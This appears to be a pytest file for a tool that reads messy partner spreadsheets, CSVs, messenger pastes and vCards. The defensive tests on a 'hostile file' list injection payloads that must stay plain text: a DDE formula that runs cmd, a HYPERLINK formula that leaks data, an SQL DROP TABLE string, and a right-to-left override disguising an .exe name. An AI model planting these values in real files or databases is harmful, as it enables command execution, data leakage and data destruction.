"""The lists that partners really send: what is read of each, and what is said."""

from pathlib import Path

import pytest

from sscdesk.i18n import language
from sscdesk.interop.messages import HEADINGS as HEADINGS_OF_MESSAGES
from sscdesk.interop.sheet import Kind, Sheet
from sscdesk.interop.spreadsheet import read
from sscdesk.interop.vcard import HEADINGS, read_cards
from tests.interop.files import DIRTY, SAMPLE


def codes(sheet: Sheet) -> list[tuple[str, int | None]]:
    return [(remark.code, remark.row) for remark in sheet.remarks]


def test_a_workbook_with_title_totals_years_and_a_second_table() -> None:
    sheet = read(DIRTY / "suivi_missions_VF2_copie.xlsx")

    assert sheet.name == "Missions 2019-2021"
    assert sheet.headings == (
        "N°",
        "Objet de la mission",
        "Dates / Départ",
        "Dates / Retour",
        "Itinéraire",
        "Budget / Montant",
        "Budget / Devise",
        "Missionnaires",
        "État",
        "Obs.",
    )
    assert len(sheet.rows) == 24
    assert list(sheet.numbers) == [*range(5, 17), *range(18, 30)]
    assert sheet.rows[0][5] == "12300"
    assert sheet.rows[1][5] == 30600
    assert set(codes(sheet)) == {
        ("title", 1),
        ("section", 17),
        ("total", 30),
        ("formula-without-result", 30),
        ("second-table", None),
        ("other-sheet", None),
    }


def test_what_was_left_out_of_the_workbook_is_told_with_its_content() -> None:
    sheet = read(DIRTY / "suivi_missions_VF2_copie.xlsx")

    with language("en"):
        told = "\n".join(remark.text for remark in sheet.remarks)

    assert "Row 17: a title between the rows was left out: Année 2020" in told
    assert "Point focal | Tél. | Bamako | +223 20 00 00 00" in told
    assert "brouillon, ne pas utiliser" in told
    assert all(remark.kind is Kind.LEFT_OUT for remark in sheet.remarks)


def test_a_windows_list_with_semicolons() -> None:
    sheet = read(DIRTY / "contacts_atelier_bamako.csv")

    assert sheet.form == "Windows-1252"
    assert sheet.headings[:4] == ("Nom & Prénom", "Fonction", "Structure", "Tél.")
    assert len(sheet.rows) == 58
    assert sheet.rows[-1][0] == "FALAISE-HAUTE Assétou"
    assert codes(sheet) == [("total", 61)]


def test_an_arabic_list_with_a_mark_tabs_and_arabic_digits() -> None:
    sheet = read(DIRTY / "liste_participants_ar.txt")

    assert sheet.form == "UTF-8 (BOM)"
    assert sheet.headings[0] == "الاسم الكامل"
    assert len(sheet.rows) == 24
    assert sheet.rows[1][3] == "٢١٢ ٥٠ ٠٠ ٠٠ ٠٠ ٢"
    assert sheet.remarks == ()


def test_exchanges_with_texts_that_hold_commas() -> None:
    sheet = read(DIRTY / "echanges_bilan.csv")

    assert len(sheet.headings) == 7
    assert len(sheet.rows) == 28
    assert sheet.rows[0][2] == "Hôtel de l'Amitié, Bamako"
    assert sheet.remarks == ()
    assert sheet.broken == ()


def test_expenses_pasted_from_a_messenger() -> None:
    sheet = read(DIRTY / "depenses_messagerie.txt")

    assert sheet.headings == HEADINGS_OF_MESSAGES
    assert sheet.rows[0] == (
        "26/02",
        "per_diem",
        "Indemnité journalière, 3 jours",
        "4500.00",
        "DHS",
        "non",
        "",
    )
    assert sheet.rows[4][6] == "???"
    assert len(sheet.rows) == 30
    doubtful = {row[2]: row[1] for row in sheet.rows}
    assert doubtful["Nuitée supplémentaire, vol annulé"] == ""
    assert doubtful["Excédent de bagages (documents)"] == ""


def test_cards_of_three_versions() -> None:
    sheet = read_cards(DIRTY / "contacts.vcf")

    rows = [dict(zip(HEADINGS, row, strict=True)) for row in sheet.rows]
    assert len(rows) == 20
    assert rows[0]["family"] == "Wadi Tawil"
    assert rows[1]["telephones"] == "+212500000022"
    assert rows[1]["notes"] == "Rencontré à l’atelier, mars 2019"
    assert rows[0]["notes"] == "X-SKYPE: live:x"
    assert sheet.broken == ()


def test_each_row_of_the_hostile_file_is_taken_or_reported() -> None:
    sheet = read(DIRTY / "organismes_recus_par_courriel.csv")

    taken = set(sheet.numbers)
    reported = {row.number for row in sheet.broken}
    assert taken | reported == set(range(2, 29))
    assert not taken & reported
    assert [(row.number, row.remark.code) for row in sheet.broken] == [
        (27, "more-cells-than-headings"),
        (28, "unclosed-quote"),
    ]


def test_the_hostile_file_stays_text() -> None:
    sheet = read(DIRTY / "organismes_recus_par_courriel.csv")

    names = [row[0] for row in sheet.rows]
    assert names[0] == '=HYPERLINK("http://example.org/?x="&A1,"cliquez")'
    assert names[2] == "-2+3+cmd|' /C calc'!A0"
    assert names[5] == '<para><font color="red">rouge</font></para>'
    assert names[9] == "retour\nligne"
    assert names[10] == "a" * 50_000
    assert names[11] == "'; DROP TABLE organisation;--"


def test_what_nobody_sees_is_taken_out_and_told() -> None:
    sheet = read(DIRTY / "organismes_recus_par_courriel.csv")

    by_number = dict(zip(sheet.numbers, sheet.rows, strict=True))
    hidden = {r.row: r.params["letters"] for r in sheet.remarks if r.code == "hidden-letters"}
    assert by_number[8][0] == "gnp.exe"
    assert hidden[8] == "U+202E"
    assert by_number[9][0] == "nomnul"
    assert hidden[9] == "U+0000"
    assert by_number[19][0] == "été"
    assert {r.row for r in sheet.remarks if r.code == "look-alike-letters"} == {21}


@pytest.mark.parametrize("path", sorted(SAMPLE.glob("*.csv")), ids=lambda path: path.stem)
def test_the_sample_files_are_read_whole_and_without_a_word(path: Path) -> None:
    import csv

    with path.open(encoding="utf-8", newline="") as stream:
        headings, *rows = csv.reader(stream)

    sheet = read(path)

    assert list(sheet.headings) == headings
    assert [list(row) for row in sheet.rows] == rows
    assert (sheet.remarks, sheet.broken) == ((), ())
